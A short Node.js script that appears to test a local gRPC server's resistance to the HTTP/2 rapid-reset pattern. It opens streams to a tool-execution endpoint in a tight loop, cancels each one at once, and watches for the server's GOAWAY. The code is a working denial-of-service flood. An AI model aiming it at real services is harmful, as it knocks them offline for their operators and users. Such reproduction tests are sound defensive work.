import { connect } from "node:http2";
import { constants } from "node:http2";
const session = connect("http://127.0.0.1:7788"); session.on("error", e => console.log(String(e)));
await new Promise(r => session.once("remoteSettings", r));
session.on("goaway", (c) => { console.log("goaway", c); clearInterval(flood); });
session.on("close", () => console.log("closed"));
const body = Buffer.alloc(5);
const flood = setInterval(() => { for (let i = 0; i < 50 && !session.destroyed; i++) {
 const stream = session.request({":method":"POST", ":path":"/handrail.v1.ToolService/ExecuteTool", "content-type":"application/grpc", te: "trailers"});
 stream.on("error", () => undefined);
 stream.end(body, () => stream.close(constants.NGHTTP2_CANCEL));
}}, 1);
setTimeout(() => process.exit(), 3000);
setInterval(() => console.log("client alive", process.memoryUsage.rss()>>20), 1000);
